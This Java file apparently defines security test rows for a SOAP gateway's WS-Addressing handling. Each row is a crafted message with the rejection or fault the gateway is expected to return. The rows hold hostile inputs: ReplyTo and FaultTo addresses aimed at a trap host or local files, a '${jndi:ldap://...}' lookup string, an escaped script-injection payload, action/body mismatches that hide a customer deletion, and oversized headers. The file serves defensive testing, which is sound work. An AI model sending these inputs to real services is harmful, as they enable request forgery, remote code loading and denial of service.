package org.crmgateway.attack;

import static org.crmgateway.attack.Expected.fault;
import static org.crmgateway.attack.Expected.malformed;
import static org.crmgateway.attack.Expected.sec;
import static org.crmgateway.attack.Expected.served;

import java.util.stream.Stream;
import org.crmgateway.failure.Code;
import org.crmgateway.partner.Dialect;
import org.crmgateway.wire.SoapEnvelope;
import org.w3c.dom.Document;

/** Where a message says it goes, what it asks for, and where the answer is wanted (A-G). */
final class AddressingRows {
    private static final String WSA = " xmlns:w='http://www.w3.org/2005/08/addressing'";
    private static final String ANONYMOUS = "http://www.w3.org/2005/08/addressing/anonymous";
    private static final String ACTION = "urn:crmgateway:order:v1:";
    /** Harmless, so that only what is said beside it decides. */
    private static final String READ = Payload.operation("o:getOrderChanges", "<o:cursor>NOW</o:cursor>");

    private AddressingRows() {}

    static Stream<Row> rows() {
        return Stream.of(actions(), destinations(), replies(), messages(), protocols())
                .flatMap(rows -> rows);
    }

    private static Stream<Row> actions() {
        Expected mismatch = fault(Code.ACTION_MISMATCH);
        return Stream.of(
                        action("A-G01", "another operation", mismatch, "SOAPAction: \"" + ACTION + "getOrder\""),
                        action("A-G03", "unknown", mismatch, "SOAPAction: \"urn:{canary}\""),
                        action("A-G03", "empty", served(), "SOAPAction: \"\""),
                        action("A-G03", "missing", served(), ""),
                        action("A-G03", "unquoted", served(), "SOAPAction: " + ACTION + "getOrderChanges"),
                        action("A-G03", "right", served(), "SOAPAction: \"" + ACTION + "getOrderChanges\""),
                        headers("A-G04", "another operation", mismatch, block("Action", ACTION + "getOrder")),
                        headers("A-G04", "unknown", mismatch, block("Action", "urn:{canary}")),
                        headers("A-G04", "right", served(), block("Action", ACTION + "getOrderChanges")),
                        Stream.of(
                                Row.of(
                                        "A-G02",
                                        "action createOrder, body deleteCustomer",
                                        malformed("soap.operation"),
                                        edge -> sandbox(
                                                edge, "order", "SOAPAction: \"" + ACTION + "createOrder\"", delete())),
                                Row.of(
                                        "A-G02",
                                        "action createCustomer, body deleteCustomer",
                                        mismatch,
                                        edge -> sandbox(
                                                edge,
                                                "customer",
                                                "SOAPAction: \"urn:crmgateway:customer:v1:createCustomer\"",
                                                delete())),
                                Row.of(
                                        "A-G05",
                                        "both delete, body creates",
                                        mismatch,
                                        edge -> Edge.post(
                                                "/services/order/v1/sandbox",
                                                SoapEnvelope.SOAP_11,
                                                "Content-Type: text/xml\r\nSOAPAction: \"urn:crmgateway:customer:v1:deleteCustomer\"\r\n",
                                                Payload.utf8(edge.fill(Payload.envelope(
                                                        SoapEnvelope.SOAP_11,
                                                        block("Action", "urn:crmgateway:customer:v1:deleteCustomer"),
                                                        Payload.order()))))),
                                Row.of(
                                        "A-G06",
                                        "action of 1.2",
                                        mismatch,
                                        edge -> Edge.post(
                                                "/services/order/v1/sandbox-soap12",
                                                SoapEnvelope.SOAP_12,
                                                "Content-Type: application/soap+xml; action=\"" + ACTION
                                                        + "getOrder\"\r\n",
                                                Payload.utf8(Payload.envelope(SoapEnvelope.SOAP_12, "", READ)))),
                                Row.of(
                                        "A-G06",
                                        "two actions of 1.2",
                                        mismatch.or(Expected.http(415, "http.ctype")),
                                        edge -> Edge.post(
                                                "/services/order/v1/sandbox-soap12",
                                                SoapEnvelope.SOAP_12,
                                                "Content-Type: application/soap+xml; action=\"" + ACTION
                                                        + "getOrder\"; action=\"" + ACTION + "getOrder\"\r\n",
                                                Payload.utf8(Payload.envelope(SoapEnvelope.SOAP_12, "", READ))))))
                .flatMap(rows -> rows);
    }

    private static Stream<Row> destinations() {
        Expected elsewhere = sec("sec.wsa.to");
        return Stream.of(
                        secured(
                                "A-G07",
                                "another host",
                                elsewhere,
                                block("To", "https://production.example.com/services/order/v1/modern")),
                        secured(
                                "A-G07",
                                "another service",
                                elsewhere,
                                block("To", "{base}/services/customer/v1/modern")),
                        secured(
                                "A-G07",
                                "another dialect",
                                elsewhere,
                                block("To", "{base}/services/order/v1/compatible")),
                        secured("A-G07", "no address", elsewhere, block("To", "{canary}")),
                        secured("A-G07", "anonymous", served(), block("To", ANONYMOUS)),
                        secured("A-G07", "empty", served(), block("To", "")))
                .flatMap(rows -> rows);
    }

    private static Stream<Row> replies() {
        Expected elsewhere = fault(Code.RULE_VIOLATION);
        return Stream.of(
                        headers("A-G08", "trap", elsewhere, reply("ReplyTo", "http://{trap}/{canary}")),
                        headers(
                                        "A-G08",
                                        "trap in 2004",
                                        elsewhere,
                                        reply("ReplyTo", "http://{trap}/")
                                                .replace("2005/08", "2004/08")
                                                .replace("www.w3.org/2004", "schemas.xmlsoap.org/ws/2004"))
                                .filter(row -> row.variant().equals("sandbox")),
                        headers("A-G09", "trap", elsewhere, reply("FaultTo", "http://{trap}/{canary}")),
                        headers("A-G09", "file", elsewhere, reply("FaultTo", "file:///tmp/{canary}")),
                        headers("A-G09", "jms", elsewhere, reply("FaultTo", "jms:jndi:ldap://{trap}/a")),
                        headers("A-G09", "jndi", elsewhere, reply("FaultTo", "${jndi:ldap://{trap}/a}")),
                        headers(
                                "A-G10",
                                "none",
                                elsewhere,
                                reply("ReplyTo", "http://www.w3.org/2005/08/addressing/none")),
                        headers("A-G10", "anonymous", served(), reply("ReplyTo", ANONYMOUS)),
                        headers("A-G10", "empty", elsewhere, reply("ReplyTo", "")),
                        headers("A-G10", "no address", elsewhere, block("ReplyTo", "")),
                        headers(
                                "A-G10",
                                "two addresses",
                                elsewhere,
                                "<w:ReplyTo" + WSA + "><w:Address>" + ANONYMOUS
                                        + "</w:Address><w:Address>http://{trap}/</w:Address></w:ReplyTo>"),
                        headers(
                                "A-G10",
                                "64 KB",
                                malformed("xml.text"),
                                reply("ReplyTo", "http://{trap}/" + "x".repeat(65_536))))
                .flatMap(rows -> rows);
    }

    private static Stream<Row> messages() {
        return Stream.of(
                        headers("A-G11", "8 KB", served(), block("MessageID", "urn:" + "x".repeat(8_192))),
                        headers("A-G11", "no URI", served(), block("MessageID", "not a \\ uri")),
                        headers("A-G11", "empty", served(), block("MessageID", "")),
                        headers(
                                "A-G11",
                                "twice",
                                sec("sec.wsa.twice"),
                                block("MessageID", "urn:{canary}") + block("MessageID", "urn:b")),
                        headers("A-G14", "script", served(), block("RelatesTo", "&lt;script>alert(1)&lt;/script>")),
                        headers(
                                "A-G14",
                                "10,000 entries",
                                malformed("xml.children"),
                                block("ReferenceParameters", "<a/>".repeat(10_000))),
                        headers("A-G14", "2,000 entries", served(), block("ReferenceParameters", "<a/>".repeat(2_000))),
                        headers(
                                "A-G15",
                                "two versions, two targets",
                                sec("sec.wsa.twice"),
                                block("To", ANONYMOUS) + old("To", "http://{trap}/")),
                        headers(
                                "A-G15",
                                "two versions, two actions",
                                sec("sec.wsa.twice"),
                                block("Action", ACTION + "getOrderChanges") + old("Action", ACTION + "createOrder")))
                .flatMap(rows -> rows);
    }

    private static Stream<Row> protocols() {
        Expected unknown = malformed("soap.operation");
        return Stream.of(
                        body(
                                "A-G16",
                                "WS-ReliableMessaging",
                                "<r:CreateSequence xmlns:r='http://docs.oasis-open.org/ws-rx/wsrm/200702'/>"),
                        body(
                                "A-G16",
                                "WS-MetadataExchange",
                                "<m:GetMetadata xmlns:m='http://schemas.xmlsoap.org/ws/2004/09/mex'/>"),
                        body(
                                "A-G16",
                                "WS-Transfer",
                                "<t:Delete xmlns:t='http://schemas.xmlsoap.org/ws/2004/09/transfer'/>"),
                        body(
                                "A-G16",
                                "WS-Trust",
                                "<t:RequestSecurityToken xmlns:t='http://docs.oasis-open.org/ws-sx/ws-trust/200512'/>"),
                        body("A-G16", "a fault", "<f:Fault xmlns:f='urn:x'/>"),
                        body(
                                "A-G17",
                                "version 2",
                                "<o:createOrder xmlns:o='urn:crmgateway:order:v2'>{canary}</o:createOrder>"),
                        body("A-G17", "another service", "<o:createCustomer xmlns:o='urn:crmgateway:customer:v1'/>"),
                        body("A-G17", "an answer", "<o:createOrderResponse xmlns:o='urn:crmgateway:order:v1'/>"),
                        body("A-G17", "no namespace", "<createOrder>{canary}</createOrder>"))
                .flatMap(rows -> rows)
                .map(row -> row.as(row.variant(), unknown, row.shot()));
    }

    private static Stream<Row> body(String id, String name, String payload) {
        Row row = Row.of(
                id, name, malformed("soap.operation"), edge -> edge.signed(SoapEnvelope.SOAP_11, edge.fill(payload)));
        return Stream.of(
                row.as("signed 1.1", row.expected(), row.shot()),
                row.as("signed 1.2", row.expected(), edge -> edge.signed(SoapEnvelope.SOAP_12, edge.fill(payload))),
                row.as(
                        "sandbox",
                        row.expected(),
                        edge -> edge.post(
                                Dialect.SANDBOX,
                                SoapEnvelope.SOAP_11,
                                Payload.utf8(edge.fill(Payload.envelope(payload))))));
    }

    /** In clear, and signed with the body by the partner. */
    private static Stream<Row> headers(String id, String name, Expected expected, String blocks) {
        Row row = Row.of(
                id,
                name,
                expected,
                edge -> edge.post(
                        Dialect.SANDBOX,
                        SoapEnvelope.SOAP_11,
                        Payload.utf8(edge.fill(Payload.envelope(SoapEnvelope.SOAP_11, blocks, READ)))));
        return Stream.concat(Stream.of(row.as("sandbox", expected, row.shot())), secured(id, name, expected, blocks));
    }

    private static Stream<Row> secured(String id, String name, Expected expected, String blocks) {
        return Stream.of(SoapEnvelope.values())
                .map(version -> Row.of(id, name, expected, edge -> null)
                        .as("signed " + (version == SoapEnvelope.SOAP_11 ? "1.1" : "1.2"), expected, edge -> {
                            String text = Payload.envelope(version, blocks, READ)
                                    .replace(
                                            "{base}",
                                            edge.gateway().gateway().base().toString());
                            Document message = SoapEnvelope.parse(edge.fill(text));
                            String[] parts = Stream.concat(
                                            Stream.of("Timestamp", "Body"),
                                            Stream.of(
                                                            "To",
                                                            "Action",
                                                            "MessageID",
                                                            "ReplyTo",
                                                            "FaultTo",
                                                            "RelatesTo",
                                                            "ReferenceParameters")
                                                    .filter(part -> blocks.contains("<w:" + part))
                                                    .map("wsa:"::concat))
                                    .toArray(String[]::new);
                            return edge.post(
                                    Dialect.MODERN,
                                    version,
                                    SoapEnvelope.bytes(
                                            edge.partner().signing(parts).protect(message)));
                        }));
    }

    private static Stream<Row> action(String id, String name, Expected expected, String field) {
        return Stream.of(
                Row.of(id, name, expected, edge -> sandbox(edge, "order", field, READ))
                        .as("sandbox", expected, edge -> sandbox(edge, "order", field, READ)),
                Row.of(id, name, expected, edge -> null)
                        .as(
                                "signed 1.1",
                                expected,
                                edge -> Edge.post(
                                                "/services/order/v1/modern",
                                                SoapEnvelope.SOAP_11,
                                                edge.fill("Content-Type: text/xml\r\n" + field
                                                        + (field.isEmpty() ? "" : "\r\n")),
                                                SoapEnvelope.bytes(
                                                        edge.partner().protect(SoapEnvelope.SOAP_11.around(READ))))
                                        .openedWith(edge.partner())));
    }

    private static Shot sandbox(Edge edge, String area, String field, String payload) {
        return Edge.post(
                "/services/" + area + "/v1/sandbox",
                SoapEnvelope.SOAP_11,
                edge.fill("Content-Type: text/xml\r\n" + field + (field.isEmpty() ? "" : "\r\n")),
                Payload.utf8(edge.fill(Payload.envelope(payload))));
    }

    private static String delete() {
        return Payload.operation(
                "m:deleteCustomer", "<m:key><c:externalId>" + Payload.CUSTOMER + "</c:externalId></m:key>");
    }

    private static String block(String name, String content) {
        return "<w:" + name + WSA + ">" + content + "</w:" + name + ">";
    }

    private static String old(String name, String content) {
        return "<v:" + name + " xmlns:v='http://schemas.xmlsoap.org/ws/2004/08/addressing'>" + content + "</v:" + name
                + ">";
    }

    private static String reply(String name, String address) {
        return block(name, "<w:Address>" + address + "</w:Address>");
    }
}
